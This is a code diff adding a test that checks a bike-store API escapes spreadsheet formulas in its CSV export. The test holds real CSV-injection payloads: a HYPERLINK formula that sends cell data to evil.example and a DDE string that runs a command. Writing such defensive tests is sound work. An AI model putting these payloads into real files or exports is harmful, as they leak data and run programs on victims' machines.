@@ -3,6 +3,7 @@ import {
   ZStoreAnalytics,
   ZStoreBikesResponse,
 } from '@ramkoll/shared/schemas/store-area';
+import { parse } from 'csv-parse/sync';
 import { and, eq } from 'drizzle-orm';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { auditLog } from '../../../src/db/schema/audit.js';
@@ -190,6 +191,23 @@ describe('GET /api/store/bikes.csv', () => {
     for (const bike of many) expect(response.body).toContain(bike.frameNumber);
     expect(response.body).toContain(otherBike.frameNumber);
     expect(response.body).not.toContain(demoStolen.frameNumber);
+  });
+
+  it("writes a customer's formulas in brand, model and colour as text (issue 50, item 3)", async () => {
+    const bike = await createStoreBike(context, other, buyer.userId);
+    const hostile = {
+      brand: '=HYPERLINK("https://evil.example/?d="&A1,"Klicka här")',
+      model: "@SUM(1+1)*cmd|' /C calc'!A0",
+      color: '\uFF0Bcmd',
+    };
+    const edited = await callApi(context, buyer.cookies, 'PATCH', `/api/me/bikes/${bike.id}`, hostile);
+    expect(edited.statusCode, edited.body).toBe(200);
+    const response = await get(otherCookies, '/api/store/bikes.csv');
+    const rows: string[][] = parse(response.body, { delimiter: ';', bom: true });
+    const row = rows.find((cells) => cells[0] === bike.frameNumber);
+    expect(row?.slice(1, 4)).toEqual([`'${hostile.brand}`, `'${hostile.model}`, `'${hostile.color}`]);
+    // Every field is quoted, the defused ones too, so no cell starts outside quotes.
+    expect(response.body).toContain(`"'=HYPERLINK(""https://evil.example/?d=""&A1,""Klicka här"")"`);
   });
 });
 
